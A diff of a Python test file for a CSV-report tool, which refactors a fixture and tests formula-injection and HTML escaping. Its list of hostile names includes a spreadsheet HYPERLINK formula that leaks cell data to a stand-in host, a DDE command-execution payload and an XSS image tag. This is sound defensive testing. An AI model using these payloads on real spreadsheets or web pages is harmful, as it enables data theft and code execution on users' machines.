@@ -12,10 +12,10 @@ from __future__ import annotations
 import argparse
 import csv
 import json
-import shutil
 from pathlib import Path
 
 import pytest
+from helpers.report_fixtures import report_bank  # noqa: F401
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -30,16 +30,6 @@ FIXTURES = Path(__file__).resolve().parent / "fixtures" / "progress"
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
 HOSTILE_NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2",
                  "<img src=x onerror=alert(1)>", "Zoë O'Brien", "- dash first"]
-
-
-@pytest.fixture
-def fixture_bank(data_copy):
-    folder = data_copy / "exercises"
-    for old in folder.glob("*.toml"):
-        old.unlink()
-    for toml in (FIXTURES / "bank").glob("*.toml"):
-        shutil.copy(toml, folder)
-    return bank()
 
 
 @pytest.fixture(scope="module")
@@ -98,7 +88,7 @@ def test_every_csv_writer_in_the_package_uses_the_helper():
 
 # --- the failures of issue 18 ----------------------------------------------------------------
 
-def test_a_formula_as_a_name_is_text_in_every_csv(fixture_bank, tmp_path, monkeypatch):
+def test_a_formula_as_a_name_is_text_in_every_csv(report_bank, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)  # so that a file named "=evil.json" is given as such
     files = []
     for n, name in enumerate(HOSTILE_NAMES):
@@ -121,7 +111,7 @@ def test_a_formula_as_a_name_is_text_in_every_csv(fixture_bank, tmp_path, monkey
     assert "<img src=x onerror" not in page and "&lt;img src=x onerror" in page
 
 
-def test_a_file_nested_100000_deep_is_named_and_the_report_still_written(fixture_bank,
+def test_a_file_nested_100000_deep_is_named_and_the_report_still_written(report_bank,
                                                                         tmp_path, capsys):
     deep = tmp_path / "deep.json"
     deep.write_text("[" * 100_000 + "]" * 100_000)
